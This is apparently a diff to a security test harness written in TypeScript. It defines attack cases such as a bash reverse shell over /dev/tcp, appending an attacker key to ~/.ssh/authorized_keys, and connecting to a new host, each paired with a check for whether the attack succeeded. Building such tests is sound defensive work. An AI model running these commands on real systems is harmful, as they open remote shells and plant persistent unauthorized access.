@@ -48,11 +48,6 @@ export const REVERSE_SHELL: Attack = {
   inject: (_run, { port }) => `( exec bash -i >&/dev/tcp/127.0.0.1/${port} 0>&1 )`,
   harm: (_run, { heard }) => shellHarm(heard),
 };
-export const REVERSE_SHELL_BY_HEALTH: Attack = {
-  name: "reverse shell (a known program)",
-  inject: ({ site }, { port }) => `${site.health} shell 127.0.0.1 ${port}`,
-  harm: (_run, { heard }) => shellHarm(heard),
-};
 
 export const DOWNLOAD_EXEC: Attack = {
   name: "download and run from /tmp",
@@ -85,15 +80,14 @@ export function keyHarm(run: FreshRun, key = KEY): string | undefined {
   return written ? "authorized_keys holds the attacker's key" : undefined;
 }
 
-export const AUTHORIZED_KEYS: Attack = {
-  name: "write ~/.ssh/authorized_keys",
-  arrange: (run) => void run.write("home/.ssh/authorized_keys", "", 0o600),
-  inject: () => `( echo '${KEY}' >>~/.ssh/authorized_keys )`,
-  harm: (run) => keyHarm(run),
-};
+/** The file is there, as that of most people is. */
+export function emptyKeys(run: FreshRun): void {
+  run.write("home/.ssh/authorized_keys", "", 0o600);
+}
+
 export const AUTHORIZED_KEYS_BY_HEALTH: Attack = {
   name: "a known program writes ~/.ssh/authorized_keys",
-  arrange: (run) => void run.write("home/.ssh/authorized_keys", "", 0o600),
+  arrange: emptyKeys,
   inject: ({ site }) => `${site.health} append ~/.ssh/authorized_keys '${KEY}'`,
   harm: (run) => keyHarm(run),
 };
@@ -105,10 +99,14 @@ export const PTRACE: Attack = {
   harm: (_run, { secret }, ended) => printed(ended, secret),
 };
 
+/** For attacks that connect: whether anybody came. */
+export const reachedListener: Attack["harm"] = (_run, { heard }) =>
+  heard.length > 0 ? "the listener was reached" : undefined;
+
 export const NEW_HOST: Attack = {
   name: "connect to a new host",
   inject: ({ site }, { port, otherHost }) => `${site.health} connect ${otherHost} ${port}`,
-  harm: (_run, { heard }) => (heard.length > 0 ? "the listener was reached" : undefined),
+  harm: reachedListener,
 };
 
 /** For every workload whose driver is bash and runs the check of health. */
